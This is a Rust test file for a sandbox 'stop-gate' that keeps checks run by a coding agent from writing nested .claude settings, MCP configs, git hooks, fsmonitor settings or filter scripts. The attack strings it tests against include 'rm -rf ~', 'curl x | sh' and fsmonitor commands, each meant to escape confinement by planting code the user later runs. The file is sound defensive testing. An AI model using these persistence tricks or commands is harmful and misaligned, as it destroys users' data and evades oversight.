//! SPEC §9, one reach at any depth (issue 43 item 1): what the engine, an editor or git would
//! run with the user's rights is read-only to a confined check wherever it is in the project,
//! not only at its top: a subdirectory's `.claude/`, a nested repository, and what git runs from
//! the project (`core.hooksPath`, included config files, filter programs). No mount forbids a
//! name that does not exist yet, so a check that makes one is never a pass. Each test plays the
//! agent whose code the check runs, in a real git repository.

use crate::support::*;

/// A check that runs `attack` and then passes: only the confinement stands in its way.
fn passing(attack: &str) -> String {
    format!("{attack}\ntrue")
}

#[test]
fn a_check_cannot_write_a_nested_engine_folder_or_repository() {
    let p = Project::git();
    let root = p.path();
    p.write("web/.claude/settings.json", "{}\n");
    p.write("pkg/.mcp.json", "{}\n");
    git(root, &["init", "-q", "vendor/lib"]);
    let config = std::fs::read(root.join("vendor/lib/.git/config")).unwrap();
    let attack = "echo '{\"hooks\":{\"SessionStart\":[]}}' > web/.claude/settings.json; \
        mkdir -p web/.claude/agents && echo x > web/.claude/agents/helper.md; \
        echo '{\"mcpServers\":{\"x\":{}}}' > pkg/.mcp.json; \
        git -C vendor/lib config core.fsmonitor 'touch /tmp/owned'; \
        echo 'rm -rf ~' > vendor/lib/.git/hooks/post-checkout; echo ok > written.txt";
    let stop = p.stop_s1(&["--run", &passing(attack)]);
    stop.assert_allowed();
    assert_eq!(
        p.read("written.txt"),
        "ok\n",
        "the project itself stays writable"
    );
    assert_eq!(p.read("web/.claude/settings.json"), "{}\n");
    assert!(!root.join("web/.claude/agents").exists());
    assert_eq!(p.read("pkg/.mcp.json"), "{}\n");
    assert_eq!(
        std::fs::read(root.join("vendor/lib/.git/config")).unwrap(),
        config
    );
    assert!(!root.join("vendor/lib/.git/hooks/post-checkout").exists());
}

#[test]
fn a_check_that_makes_an_engine_folder_or_repository_below_the_top_is_not_a_pass() {
    let p = Project::git();
    std::fs::create_dir_all(p.path().join("web")).unwrap();
    let attack = "mkdir -p web/.claude && echo '{\"hooks\":{}}' > web/.claude/settings.json; \
        git init -q vendor/lib; mkdir -p a/b && echo '{}' > a/b/.mcp.json";
    let stop = p.stop_s1(&["--run", &passing(attack)]);
    let line = stop.assert_blocked_starting("stop-gate: `");
    for made in ["web/.claude", "vendor/lib/.git", "a/b/.mcp.json"] {
        assert_contains!(line, made);
    }
    assert_contains!(line, "never counts");
    // Named, never removed: the person decides.
    assert!(p.path().join("web/.claude/settings.json").exists());
    // Once they are gone, the same check (doing nothing of the kind) passes.
    std::fs::remove_dir_all(p.path().join("web/.claude")).unwrap();
    std::fs::remove_dir_all(p.path().join("vendor")).unwrap();
    std::fs::remove_dir_all(p.path().join("a")).unwrap();
    p.stop_s1(&["--run", "true"]).assert_allowed();
}

#[test]
fn what_git_runs_from_the_project_is_read_only_to_a_check() {
    let p = Project::git();
    let root = p.path();
    // husky's set-up, an included config file, and a filter whose program is a script.
    p.write(".husky/pre-commit", "npm test\n");
    p.write(
        "tools/git.cfg",
        "[filter \"fmt\"]\n\tclean = ./scripts/clean.sh %f\n",
    );
    p.write("scripts/clean.sh", "cat\n");
    git(root, &["config", "core.hooksPath", ".husky"]);
    git(root, &["config", "include.path", "../tools/git.cfg"]);
    let attack = "echo 'curl x | sh' > .husky/pre-commit; echo 'rm -rf ~' > .husky/post-merge; \
        printf '[core]\\n\\tfsmonitor = touch /tmp/owned\\n' >> tools/git.cfg; \
        echo 'rm -rf ~' > scripts/clean.sh";
    let stop = p.stop_s1(&["--run", &passing(attack)]);
    stop.assert_allowed();
    assert_eq!(p.read(".husky/pre-commit"), "npm test\n");
    assert!(!root.join(".husky/post-merge").exists());
    assert_eq!(
        p.read("tools/git.cfg"),
        "[filter \"fmt\"]\n\tclean = ./scripts/clean.sh %f\n"
    );
    assert_eq!(p.read("scripts/clean.sh"), "cat\n");
}

#[test]
fn a_check_that_makes_the_hooks_directory_git_names_is_not_a_pass() {
    let p = Project::git();
    git(p.path(), &["config", "core.hooksPath", ".githooks"]);
    let attack = "mkdir -p .githooks && echo 'rm -rf ~' > .githooks/pre-commit";
    let stop = p.stop_s1(&["--run", &passing(attack)]);
    let line = stop.assert_blocked_starting("stop-gate: `");
    assert_contains!(line, ".githooks");
}

#[test]
fn a_nested_engine_folder_that_is_a_symlink_is_not_run() {
    let p = Project::git();
    let outside = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(p.path().join("web")).unwrap();
    std::os::unix::fs::symlink(outside.path(), p.path().join("web/.claude")).unwrap();
    let stop = p.stop_s1(&["--run", "echo x > web/.claude/settings.json"]);
    let line = stop.assert_blocked_starting("stop-gate: `");
    assert_contains!(line, "web/.claude is a symlink");
    assert!(!outside.path().join("settings.json").exists());
}

/// Not a pass for one Stop only: what a check made stays listed in the protected state, and
/// every later check is no pass while it is there (the next walk would take it for the
/// user's); the next session start names it.
#[test]
fn what_a_check_made_keeps_every_later_check_from_passing_until_it_is_gone() {
    let p = Project::git();
    let attack = "mkdir -p web/.claude && echo '{\"hooks\":{}}' > web/.claude/settings.json";
    p.stop_s1(&["--run", &passing(attack)])
        .assert_blocked_starting("stop-gate: `");
    let line = p
        .stop_s1(&["--run", "true"])
        .assert_blocked_starting("stop-gate: `true` made");
    assert_contains!(line, "web/.claude");
    let start = session_start(p.path(), "s-2", "startup");
    assert_contains!(
        stdout_of(&start),
        "web/.claude, which a confined check made, is still there"
    );
    std::fs::remove_dir_all(p.path().join("web/.claude")).unwrap();
    p.stop_s1(&["--run", "true"]).assert_allowed();
    assert_lacks!(
        stdout_of(&session_start(p.path(), "s-3", "startup")),
        "which a confined check made"
    );
}

/// git takes a directory for a repository by its shape, not its name: a "bare" directory with
/// `core.worktree` set, made by the check, runs its fsmonitor at the user's `git status` there.
#[test]
fn a_repository_not_named_dot_git_is_found_by_its_shape() {
    let p = Project::git();
    let attack = "git init -q --bare vendor/pkg && git -C vendor/pkg config core.bare false && \
         git -C vendor/pkg config core.worktree . && \
         git -C vendor/pkg config core.fsmonitor 'touch /tmp/owned; false'";
    let line = p
        .stop_s1(&["--run", &passing(attack)])
        .assert_blocked_starting("stop-gate: `");
    assert_contains!(line, "vendor/pkg");
    std::fs::remove_dir_all(p.path().join("vendor")).unwrap();
    // One of the user's, there before the check, is bound read-only whole.
    git(p.path(), &["init", "-q", "--bare", "mirrors/lib"]);
    let config = p.read("mirrors/lib/config");
    p.stop_s1(&[
        "--run",
        &passing("git -C mirrors/lib config core.fsmonitor x"),
    ])
    .assert_allowed();
    assert_eq!(p.read("mirrors/lib/config"), config);
}

/// A word of a setting is a program only where it is one: a path, or the project's own
/// executable file. `credential.helper = store` does not freeze a `store/` folder, nor
/// `alias.t = !npm test` a `test/`; a script glued to shell punctuation is still found.
#[test]
fn only_the_programs_a_setting_names_are_read_only() {
    let p = Project::git();
    let home = tempfile::tempdir_in("/var/tmp").unwrap();
    p.write("store/index.js", "export default {}\n");
    p.write("test/a.test.js", "\n");
    p.write("scripts/fmt.sh", "true\n");
    git(p.path(), &["config", "credential.helper", "store"]);
    git(p.path(), &["config", "alias.t", "!npm test"]);
    git(
        p.path(),
        &["config", "alias.fmt", "!f() { ./scripts/fmt.sh; }; f"],
    );
    p.stop_s1(&[
        "--run",
        &passing("echo x > store/new.js && echo y > test/b.test.js && echo owned > scripts/fmt.sh"),
    ])
    .assert_allowed();
    assert_eq!(p.read("store/new.js"), "x\n");
    assert_eq!(
        p.read("scripts/fmt.sh"),
        "true\n",
        "the script `git fmt` runs"
    );
    assert_eq!(
        p.file_tool(home.path(), "Write", "file_path", "store/index.js"),
        None
    );
    assert!(
        p.file_tool(home.path(), "Write", "file_path", "scripts/fmt.sh")
            .is_some()
    );
}

/// `core.hooksPath = .` makes the project's top git's hooks directory: the top cannot be
/// read-only whole, so each hook git would run from it is, there or not.
#[test]
fn hooks_git_runs_from_the_project_top_are_read_only() {
    let p = Project::git();
    p.write("pre-commit", "npm test\n");
    git(p.path(), &["config", "core.hooksPath", "."]);
    let stop = p.stop_s1(&[
        "--run",
        &passing("echo owned > pre-commit; echo owned > post-checkout; echo ok > notes.txt"),
    ]);
    assert_eq!(p.read("pre-commit"), "npm test\n");
    assert_eq!(
        p.read("notes.txt"),
        "ok\n",
        "the rest of the top stays writable"
    );
    let line = stop.assert_blocked_starting("stop-gate: `");
    assert_contains!(line, "post-checkout");
}
